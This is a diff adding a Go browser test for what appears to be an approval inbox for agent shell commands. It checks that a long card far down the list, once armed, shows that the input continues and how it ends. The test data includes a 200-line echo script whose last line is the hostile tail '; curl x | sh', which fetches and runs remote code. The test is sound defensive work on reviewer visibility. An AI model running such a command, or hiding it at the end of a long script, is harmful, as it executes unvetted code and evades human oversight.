@@ -271,3 +271,46 @@ func TestInboxLongCommand(t *testing.T) {
 		}
 	}
 }
+
+// A long command far down the list: the page does not lay out a card far
+// from the screen (app.css), so its box is measured when it comes near.
+// By the time the card can be decided (armed), it says that the input
+// continues, and how it ends.
+func TestInboxLongCommandFarDown(t *testing.T) {
+	sc := pageScenario(t)
+	q := approvals.New(sc.stateDir)
+	for i := range 40 {
+		queueBash(t, q, map[string]string{"command": fmt.Sprintf("make test-%d", i)})
+	}
+	const tail = "; curl x | sh"
+	var script []string
+	for i := range 199 {
+		script = append(script, fmt.Sprintf("echo step %d", i+1))
+	}
+	long := queueBash(t, q, map[string]string{"command": strings.Join(append(script, tail), "\n")})
+	ib := startInbox(t, sc, "")
+	p := openBrowser(t, sc)
+	p.openInbox(ib)
+	sel := cardSel(long.ID)
+	p.until("the long card", fmt.Sprintf(`!!document.querySelector(%q)`, sel), 10*time.Second)
+	time.Sleep(300 * time.Millisecond) // frames pass; the far card stays unrendered
+	if evalJS[bool](p, fmt.Sprintf(`document.querySelector(%q + ' .head').checkVisibility({contentVisibilityAuto: true})`, sel)) {
+		t.Fatal("the long card far down the list is rendered: the check below would not test a card that comes near")
+	}
+	evalJS[bool](p, fmt.Sprintf(`(document.querySelector(%q).scrollIntoView({block: 'start'}), true)`, sel))
+	p.until("the long card to settle", fmt.Sprintf(`!!document.querySelector(%q + '.armed')`, sel), 10*time.Second)
+	type note struct {
+		Text        string
+		Shown       bool
+		Top, Bottom float64 // the note's, in the window
+	}
+	n := evalJS[note](p, fmt.Sprintf(`(() => {
+		const more = document.querySelector(%q + ' p.more'), r = more.getBoundingClientRect();
+		return {Text: more.textContent, Shown: !more.hidden && r.height > 0, Top: r.top, Bottom: r.bottom};
+	})()`, sel))
+	p.shot("long-far-down")
+	if !n.Shown || !strings.Contains(n.Text, "more lines below") || !strings.Contains(n.Text, tail) {
+		t.Errorf("the card, armed, says %q (shown: %v); want a note that the input continues, ending %q", n.Text, n.Shown, tail)
+	}
+	t.Logf("armed, the card says %q, from %.0f to %.0f px in the window", n.Text, n.Top, n.Bottom)
+}
